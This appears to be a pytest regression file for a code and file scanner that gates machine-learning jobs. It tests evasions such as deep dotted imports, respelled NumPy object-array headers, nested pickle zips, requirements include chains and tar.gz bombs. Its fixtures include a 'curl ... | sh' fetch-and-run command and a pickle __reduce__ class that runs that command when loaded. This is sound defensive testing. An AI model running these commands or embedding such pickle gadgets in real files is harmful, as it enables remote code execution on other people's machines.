"""Session 42: the brief's failures re-measured with new variants (depth, bombs, hidden findings, bad input).

- A dotted name nested past limits.max_nesting_depth in an import (`import a.a.a...`, `from .....a.a import x`)
  made the flat stand-in (engine/surrogate.py) keep the import as written: the stand-in was as deep as the
  file, its analysis failed, and every other statement of the file went unread (a reject turned escalate).
- An object-dtype NumPy array whose header spells the dtype otherwise than `'|O'` at its start (`"|O"`, `'O'`,
  padded), or an .npz holding one, was taken for plain data: np.load(allow_pickle=True) unpickles it. A zip of
  more than 32 pickle members was judged on its first 32.
"""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from pathlib import Path

import numpy as np
import pytest

import redteam_kit as kit
from analyzer.model import Decision
from tests.test_isolation import _site, deployed

PAYLOAD = "import os\nos.system('curl -s http://10.0.0.7/setup | sh')\n"
REJECTED = "remote-code.fetch-and-run-command"
DOTTED = ".".join(["utils"] * 3000)

DEEP_IMPORTS = {
    "import": f"import {DOTTED}\n",
    "import-as": f"import {DOTTED} as helpers\n",
    "from-import": f"from {DOTTED} import normalise\n",
    "relative": "from " + "." * 300 + DOTTED + " import normalise\n",
    "in-a-try": f"try:\n    import {DOTTED}\nexcept ImportError:\n    pass\n",
}


@pytest.mark.parametrize("where", ["before", "after"])
@pytest.mark.parametrize("shape", sorted(DEEP_IMPORTS))
def test_a_deep_dotted_import_hides_no_other_statement_of_its_file(tmp_path: Path, shape: str, where: str) -> None:
    deep = DEEP_IMPORTS[shape]
    source = deep + PAYLOAD if where == "before" else PAYLOAD + deep
    report = kit.scan_source(tmp_path, source, "train.py")
    kit.assert_held(report, REJECTED, Decision.REJECT)
    assert kit.holds(report, "unanalyzable.limit-nesting-depth") and not kit.holds(report, "unanalyzable.internal-error")


def test_a_deep_dotted_import_stays_unresolved_and_is_never_accepted(tmp_path: Path) -> None:
    source = f"import {DOTTED} as helpers\nimport numpy as np\nprint(helpers.scale(np.zeros(3)))\n"
    report = kit.scan_source(tmp_path, source, "train.py")
    kit.assert_held(report, "unanalyzable.limit-nesting-depth", Decision.ESCALATE)
    assert not kit.holds(report, "unanalyzable.internal-error")


def test_a_site_rejects_a_job_whose_payload_sits_beside_a_deep_import(tmp_path: Path) -> None:
    verdict = _site(tmp_path).check_deployed_app(deployed(tmp_path, "job-deep", DEEP_IMPORTS["import"] + PAYLOAD), {})
    assert not verdict.allow and verdict.message.startswith("jobgate: rejected") and REJECTED in verdict.message


# ------------------------------------------------------------- object arrays

class _Shell:
    """What an attacker pickles into an array's element: unpickling it runs a command."""

    def __reduce__(self):
        return (os.system, ("curl -s http://10.0.0.7/s | sh",))


def _npy(array: np.ndarray, respell=lambda header: header) -> bytes:
    """`array` as np.save writes it, with its header respelled (np.load reads it back all the same)."""
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    data = buf.getvalue()
    size = int.from_bytes(data[8:10], "little")
    header = respell(data[10:10 + size].decode("latin1").rstrip()).encode("latin1")
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return data[:8] + len(header).to_bytes(2, "little") + header + data[10 + size:]


def _npz(**arrays: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in arrays.items():
            zf.writestr(name + ".npy", data)
    return buf.getvalue()


OBJECTS = np.array([_Shell()], dtype=object)
RESPELLED = {
    "double-quoted": lambda h: h.replace("'|O'", '"|O"'),
    "bare-O": lambda h: h.replace("'|O'", "'O'"),
    "named-object": lambda h: h.replace("'|O'", "'object'"),
    "padded-past-512-bytes": lambda h: h.replace("'descr': '|O'", "'descr':" + " " * 600 + "'|O'"),
    "dtype-last": lambda h: "{'fortran_order': False, 'shape': (1,), 'descr': '|O'}",
    "structured-field": lambda h: h.replace("'|O'", "[('w', '<f8'), ('meta', '|O')]"),
}


@pytest.mark.parametrize("spelling", sorted(RESPELLED))
def test_an_object_array_is_read_as_the_pickle_it_is_however_its_header_spells_it(tmp_path, spelling) -> None:
    harmless = np.load(io.BytesIO(_npy(np.array([{"lr": 0.1}], dtype=object), RESPELLED[spelling])), allow_pickle=True)
    assert harmless.dtype.hasobject  # np.load unpickles it: what it reads is what the gate must
    data = _npy(OBJECTS, RESPELLED[spelling])
    (tmp_path / "weights.npy").write_bytes(data)
    kit.assert_held(kit.scan(tmp_path / "weights.npy"), "files.pickle-dangerous", Decision.REJECT)


@pytest.mark.parametrize("compressed", [False, True])
def test_an_npz_with_an_object_member_is_read_as_the_pickle_it_holds(tmp_path: Path, compressed: bool) -> None:
    np.savez_compressed(tmp_path / "w.npz", w=np.zeros(3), x=OBJECTS) if compressed else \
        np.savez(tmp_path / "w.npz", w=np.zeros(3), x=OBJECTS)
    kit.assert_held(kit.scan(tmp_path / "w.npz"), "files.pickle-dangerous", Decision.REJECT)


def test_plain_arrays_and_an_npz_of_them_stay_accepted(tmp_path: Path) -> None:
    np.save(tmp_path / "x.npy", np.arange(10.0))
    np.save(tmp_path / "labels.npy", np.array(["cat", "dog"]))
    np.save(tmp_path / "table.npy", np.zeros(3, dtype=[("w", "<f8"), ("n", "<i4"), ("t", "<M8[ns]")]))
    np.savez_compressed(tmp_path / "model.npz", **{f"layer{i}": np.ones((4, 4)) for i in range(40)})
    (tmp_path / "train.py").write_text("import numpy as np\nprint(np.load('model.npz')['layer0'].sum())\n")
    report = kit.scan(tmp_path)
    kit.assert_accepted(report)
    assert not any(f.rule.startswith("files.pickle") for f in report.findings), kit.findings(report)


def test_a_zip_is_not_judged_on_its_first_pickles_only(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(40):
            zf.writestr(f"archive/part{i:02}.pkl", pickle.dumps({"step": i}))
        zf.writestr("archive/part99.pkl", pickle.dumps(_Shell()))
    (tmp_path / "checkpoint.pt").write_bytes(buf.getvalue())
    kit.assert_held(kit.scan(tmp_path / "checkpoint.pt"), "files.pickle-opaque")


# ------------------------------------------------------------- an internal error hides nothing

CLIENT = ("import os, subprocess\nimport numpy as np\n\n"
          "gpus = subprocess.run(['nvidia-smi', '-L'], capture_output=True, text=True)\n"
          "weights = np.zeros(10)\n"
          "os.system('curl -s http://10.0.0.7/setup | sh')\n")


def test_an_error_matching_one_call_keeps_every_other_calls_reject(tmp_path: Path, monkeypatch) -> None:
    from analyzer.engine import match

    real = match.holds

    def fails_on_subprocess_run(resolver, call, scope, condition):
        if getattr(call.func, "attr", None) is not None and call.func.attr.value == "run":
            raise RuntimeError("a condition the gate cannot evaluate on this call")
        return real(resolver, call, scope, condition)

    monkeypatch.setattr(match, "holds", fails_on_subprocess_run)
    report = kit.scan_source(tmp_path, CLIENT, "train.py")
    kit.assert_held(report, REJECTED, Decision.REJECT)
    [error] = [f for f in report.findings if f.rule == "unanalyzable.internal-error"]
    assert "the call rules failed" in error.message and error.path == "train.py"
    assert kit.holds(report, "unvouched.import") or kit.holds(report, "unvouched.api")


def test_findings_whose_lines_cannot_be_placed_still_stand(tmp_path: Path, monkeypatch) -> None:
    from analyzer.engine import match

    def broken(*args, **kwargs):
        raise RuntimeError("position pass failed")

    monkeypatch.setattr(match, "locate", broken)
    report = kit.scan_source(tmp_path, CLIENT, "train.py")
    kit.assert_held(report, REJECTED, Decision.REJECT)
    assert kit.holds(report, "unanalyzable.internal-error")


# ------------------------------------------------------------- configs Python refuses

def test_a_pyproject_with_an_integer_past_pythons_digit_limit_is_named_a_config_it_cannot_read(tmp_path) -> None:
    pyproject = ('[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n'
                 f'[tool.jobgate-padding]\nseed = {"7" * 100_000}\n')
    report = kit.scan_files(tmp_path, {"pyproject.toml": pyproject, "train.py": "print(1)\n"})
    kit.assert_held(report, "unanalyzable.config-parse", Decision.ESCALATE)
    assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)


# ------------------------------------------------------------- a sparse file

def test_a_sparse_file_of_gigabytes_is_listed_unread_and_the_job_held(tmp_path: Path) -> None:
    """4 GB of holes (a few KB on disk) took 90 s to hash; a terabyte would block a site's deploy for hours.
    Its empty hash shows it was never read (a wall-clock bound would be flaky on a loaded machine)."""
    app = deployed(tmp_path, "job-sparse", "import numpy as np\nprint(np.load('weights.bin').sum())\n")
    with open(app / "custom" / "weights.bin", "wb") as fh:
        fh.truncate(4 << 30)
    verdict = _site(tmp_path).check_deployed_app(app, {})
    assert not verdict.allow and "held for review" in verdict.message
    assert "unanalyzable.limit-size" in verdict.message
    report = kit.scan(app.parent)
    [entry] = [f for f in report.files if f.path.endswith("weights.bin")]
    assert entry.sha256 == "" and entry.size == 4 << 30
    assert report.decision is Decision.ESCALATE


# ------------------------------------------------------------- requirements include chains

INDEX = "--extra-index-url https://pkgs.x.example/simple\ntorch==2.3.0\n"


@pytest.mark.parametrize("files", [
    {"requirements.txt": "-r deps.txt\n", "deps.txt": INDEX},
    {"requirements.txt": "-r sub/base.txt\n", "sub/base.txt": "--requirement=../more.in\n-c ../requirements.txt\n",
     "more.in": "numpy\nflhelpers @ git+https://github.com/x/flhelpers@main\n"},
    {"requirements.txt": "-r a.txt\nnumpy\n", "a.txt": "-r b.txt\n", "b.txt": "-r a.txt\n" + INDEX},  # a cycle
    {"requirements.txt": "numpy==1.26.4\n-r https://x.example/fl/requirements-gpu.txt\n"},
], ids=["one-include", "nested-includes", "include-cycle", "remote-include"])
def test_a_source_behind_a_requirements_include_is_judged_as_the_requirements_it_is(tmp_path, files) -> None:
    report = kit.scan_files(tmp_path, {**files, "train.py": "import numpy as np\nprint(np.zeros(3).sum())\n"})
    kit.assert_held(report, "supply-chain.requirements-source", Decision.REJECT)


def test_requirements_that_include_plain_pins_stay_accepted(tmp_path: Path) -> None:
    report = kit.scan_files(tmp_path, {"requirements.txt": "-r base.txt\n-c pins.txt\n", "base.txt": "numpy\ntorch\n",
                                       "pins.txt": "numpy==1.26.4\ntorch==2.3.0\n",
                                       "train.py": "import numpy as np\nprint(np.zeros(3).sum())\n"})
    kit.assert_accepted(report)


# ------------------------------------------------------------- archive bombs

class _Zeros(io.RawIOBase):
    def __init__(self, size: int):
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        n = min(len(buffer), self.left)
        buffer[:n] = b"\0" * n
        self.left -= n
        return n


def test_a_tar_gz_bomb_is_named_an_archive_without_decompressing_it(tmp_path: Path) -> None:
    """A .tar.gz whose first member is mostly zeros: naming the next member inflated all of it (1.4 MB of
    .tar.gz holding 1.5 GB: 35 s). The listing stops past files.MAX_TAR_LISTING_BYTES, and says so."""
    import tarfile

    with tarfile.open(tmp_path / "data.tar.gz", "w:gz") as tf:
        big = tarfile.TarInfo("shards/big.bin")
        big.size = 200_000_000
        tf.addfile(big, io.BufferedReader(_Zeros(big.size), 1 << 20))
        small = tarfile.TarInfo("train.py")
        small.size = 5
        tf.addfile(small, io.BytesIO(b"x = 1"))
    (tmp_path / "train.py").write_text(PAYLOAD)
    report = kit.scan(tmp_path)
    kit.assert_held(report, REJECTED, Decision.REJECT)
    [archive] = [f for f in report.findings if f.rule == "unanalyzable.archive"]
    assert "shards/big.bin, ..." in archive.message
